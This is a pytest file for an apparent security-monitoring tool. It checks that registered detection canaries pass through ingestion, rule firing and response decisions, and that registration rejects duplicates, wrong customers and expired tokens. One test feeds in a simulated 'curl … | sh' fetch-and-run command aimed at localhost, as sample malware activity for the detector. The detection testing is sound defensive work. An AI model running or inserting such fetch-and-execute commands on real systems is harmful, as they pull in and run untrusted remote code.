"""A canary through the real process: registered over the control socket, sent over TLS, followed by its hops."""

from __future__ import annotations

import time

import pytest

from nachtwacht.model.failure import Failure
from nachtwacht.model.watch import HOPS
from tests.ingest.sender import request
from tests.runtime.test_runtime import login, shell

TOKEN = "nwc-0123456789abcdef0123"
ANOTHER = "nwc-ffffffffffffffff0000"
IDLE = "nwc-eeeeeeeeeeeeeeee0000"
KEY = "SHA256:AqYwXBqDTXUD6cFOhPFlVmv1mYDkxWWZ3Wv5pE0PpRk"


def of(running, token):
    """The findings of one canary."""
    return [finding for finding in running.ask("findings") if finding["unmapped"]["canary"] == token]


def test_a_registered_canary_goes_all_the_way_to_the_decision(shared):
    shared.register(token=TOKEN, use_case="malware_execution", asset="ws-01", mailbox="canary@soc.example")
    agent = shared.agent("ws-01")
    agent.deliver(request("ws-01", "linux_audit", [shell(f"curl http://127.0.0.1:9/{TOKEN} | sh")]))
    answer = shared.ask("hops", token=TOKEN, wait=20, until="response_decided")
    assert [hop["hop"] for hop in answer["hops"]] == list(HOPS[: HOPS.index("response_decided") + 1])
    assert not answer["complete"]  # No mail server is configured here, so nobody was told.
    times = [hop["at"] for hop in answer["hops"]]
    assert times == sorted(times)
    (finding,) = of(shared, TOKEN)
    assert not finding["is_alert"]


def test_the_registered_clock_makes_it_night(shared):
    night = 1793757600.0
    shared.register(token=KEY, use_case="off_hours_admin_login", asset="fin-01", clock=night)
    shared.agent("fin-01").deliver(request("fin-01", "linux_auth", [login(time.time(), fingerprint=KEY)]))
    answer = shared.ask("hops", token=KEY, wait=20, until="rule_fired")
    assert "rule_fired" in {hop["hop"] for hop in answer["hops"]}
    (finding,) = of(shared, KEY)
    assert finding["unmapped"]["entities"]["local_time"] == "2026-11-04T03:00:00+01:00"


def test_only_what_the_controller_signed_is_registered_and_once(shared):
    fields = {"use_case": "malware_execution", "asset": "ws-01"}
    shared.register(token=ANOTHER, **fields)
    with pytest.raises(Failure, match="registered before"):
        shared.register(token=ANOTHER, **fields)
    with pytest.raises(Failure, match="for another"):
        shared.register(token=ANOTHER + "2", customer="another", **fields)
    with pytest.raises(Failure, match="expired"):
        shared.register(token=ANOTHER + "3", expires=time.time() - 1, **fields)
    for text in ("", "x.y", "x", "e30.AAAA"):
        with pytest.raises(Failure, match="refused"):
            shared.ask("canary", text=text)


def test_hops_wait_no_longer_than_they_are_told(shared):
    shared.register(token=IDLE, use_case="malware_execution", asset="ws-01")
    answer = shared.ask("hops", token=IDLE, wait=0.2)
    assert [hop["hop"] for hop in answer["hops"]] == ["emitted"]
    assert not answer["complete"]
